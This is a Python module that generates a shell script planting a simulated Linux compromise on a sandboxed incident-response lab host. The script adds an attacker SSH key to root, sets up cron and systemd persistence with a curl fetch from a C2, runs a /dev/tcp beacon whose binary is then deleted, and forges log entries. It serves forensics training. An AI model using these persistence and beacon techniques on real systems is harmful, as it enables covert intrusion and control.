"""What the attacker left on a lab scenario's host, as the shell that plants it.

The scenario's compromise (a beaconing process whose binary is deleted, cron and systemd
persistence, an added ``authorized_keys`` line, shell history, a listening socket) is planted
inside the sandboxed host (``ircli.lab.sandbox``) on the root file system that
``ircli.lab.rootfs`` builds, just before the collector runs there.
"""

from __future__ import annotations

from dataclasses import dataclass


@dataclass(frozen=True)
class HostScenario:
    """What the scenario's host is and what the attacker left on it.

    ``c2`` is where the beacon connects (an address inside the namespace); ``beacon`` the
    process name; empty fields plant nothing, so ``HostScenario("db-1")`` is a clean host.
    """

    hostname: str
    c2: tuple[str, int] | None = None
    beacon: str = ""
    replaced_binary: str = ""  # a packaged file the attacker modified (dpkg -V shows it)
    backdoor_port: int = 0
    attacker_key_comment: str = ""
    history: tuple[str, ...] = ()
    users: tuple[str, ...] = ("ubuntu",)
    description: str = "a clean host"

    @property
    def compromised(self) -> bool:
        return bool(self.beacon)



def _shell_quote(value: str) -> str:
    return "'" + value.replace("'", "'\"'\"'") + "'"



def plant_script(host: HostScenario) -> str:
    """Shell run inside the host before the collector: the scenario's compromise."""
    lines = [r"""report() { printf '%s\t%s\n' "$1" "$2" >&6; }
umask 022"""]
    for user in host.users:
        lines.append(f"mkdir -p /home/{user}/.ssh && chmod 700 /home/{user}/.ssh")
    lines.append(r"""printf '%s\n' 'sudo apt-get update' 'sudo systemctl status nginx' \
  'tail -f /var/log/nginx/access.log' > /home/ubuntu/.bash_history
key() { ssh-keygen -q -t ed25519 -N "$1" -C "$2" -f "$3" >/dev/null 2>&1 \
  && report "$4" "$(ssh-keygen -l -f "$3.pub")"; }
key 'lab passphrase' ubuntu@deploy /home/ubuntu/.ssh/id_ed25519 protected_key
mkdir -p /root/.ssh && chmod 700 /root/.ssh
key '' root@web /root/.ssh/id_ed25519 nopass_key
cat /root/.ssh/id_ed25519.pub > /root/.ssh/authorized_keys
chown -R 1000:1000 /home/ubuntu""")
    if not host.compromised:
        lines.append("report clean yes")
        return "\n".join(lines) + "\n"
    c2_ip, c2_port = host.c2 or ("127.0.0.1", 443)
    b = host.beacon
    history = "\n".join(host.history)
    lines.append(f"""# What the logs saw: the attacker logging in with the key it added.
printf '%s\\n' "Dec  1 08:41:07 {host.hostname} sshd[812]: Accepted publickey for root from \
{c2_ip} port 50122 ssh2" "Dec  1 08:41:07 {host.hostname} sshd[812]: pam_unix(sshd:session): \
session opened for user root(uid=0)" > /var/log/auth.log
# The attacker's key, added for root.
key '' {_shell_quote(host.attacker_key_comment)} /run/.ak attacker_key
cat /run/.ak.pub >> /root/.ssh/authorized_keys
rm -f /run/.ak /run/.ak.pub
cat > /root/.bash_history <<'IRCLI_HIST'
{history}
IRCLI_HIST
# Persistence: a cron entry and a systemd unit that bring the implant back.
mkdir -p /usr/lib/.{b} /etc/systemd/system/multi-user.target.wants
printf '%s\\n' 'c2={c2_ip}:{c2_port}' 'sleep=30' > /usr/lib/.{b}/config \
  && report hidden_dir /usr/lib/.{b}
printf '%s\\n' '*/5 * * * * root /usr/lib/.{b}/{b} >/dev/null 2>&1 || \
curl -fsS http://{c2_ip}/{b} -o /tmp/{b}' | tr -d '\\n' > /etc/cron.d/{b}; echo >> /etc/cron.d/{b}
report cron /etc/cron.d/{b}
printf '%s\\n' '*/10 * * * * /tmp/{b}' > /var/spool/cron/crontabs/root
cat > /etc/systemd/system/{b}.service <<'IRCLI_UNIT'
[Unit]
Description=Kernel worker daemon
[Service]
ExecStart=/usr/lib/.{b}/{b}
Restart=always
[Install]
WantedBy=multi-user.target
IRCLI_UNIT
ln -s /etc/systemd/system/{b}.service /etc/systemd/system/multi-user.target.wants/{b}.service
report systemd /etc/systemd/system/{b}.service
if chattr +i /etc/cron.d/{b} 2>/run/.chattr.err; then report immutable /etc/cron.d/{b}
else report immutable_refused "$(tr '\\n' ' ' < /run/.chattr.err)"; fi
rm -f /run/.chattr.err
# A leftover of an account the attacker removed, and a binary given raw-socket powers.
mkdir -p /opt/.cache && : > /opt/.cache/{b}.log && chown 4242:4242 /opt/.cache/{b}.log \
  && report unknown_owner /opt/.cache/{b}.log
mkdir -p /usr/local/bin && cp /bin/bash /usr/local/bin/{b}-net \
  && setcap cap_net_raw,cap_net_admin+ep /usr/local/bin/{b}-net 2>/dev/null \
  && report capability /usr/local/bin/{b}-net
# The implant: a copy of bash in /tmp, renamed, connected to the C2, then deleted from disk.
cp /bin/bash /tmp/{b} && chmod 755 /tmp/{b} && cp /bin/bash /usr/lib/.{b}/{b}
report beacon_sha256 "$(sha256sum /tmp/{b} | cut -c1-64)"
cat > /run/.beacon <<'IRCLI_BEACON'
exec 3<>/dev/tcp/{c2_ip}/{c2_port} || exit 1
while :; do printf 'beacon\\n' >&3; read -r -t 30 x <&3 || [ $? -gt 128 ] || exit 0; done
IRCLI_BEACON
code=$(cat /run/.beacon); rm -f /run/.beacon
/bin/bash -c 'exec -a "$0" "$1" -c "$2"' {b} /tmp/{b} "$code" </dev/null >/dev/null 2>&1 &
report beacon_pid $!
i=0; while [ $i -lt 50 ] && ! grep -q ' 01 ' /proc/net/tcp 2>/dev/null; do
  sleep 0.1; i=$((i+1)); done
rm -f /tmp/{b} && report deleted_exe /tmp/{b}""")
    if host.backdoor_port:
        lines.append(f"""/usr/bin/python3 -c 'import socket,time
s=socket.socket(); s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
s.bind(("0.0.0.0", {host.backdoor_port})); s.listen(1); time.sleep(3600)' \
  </dev/null >/dev/null 2>&1 &
report listener {host.backdoor_port}""")
    if host.replaced_binary:
        path = host.replaced_binary
        lines.append(f"""if [ -f {path} ]; then cp {path} /run/.rb \\
  && printf 'ircli-lab-implant' >> /run/.rb && cat /run/.rb > {path} \\
  && report replaced_binary {path}; rm -f /run/.rb; fi""")
    lines.append("i=0; while [ $i -lt 30 ] && ! grep -q ' 0A ' /proc/net/tcp 2>/dev/null; do "
                 "sleep 0.1; i=$((i+1)); done")
    return "\n".join(lines) + "\n"
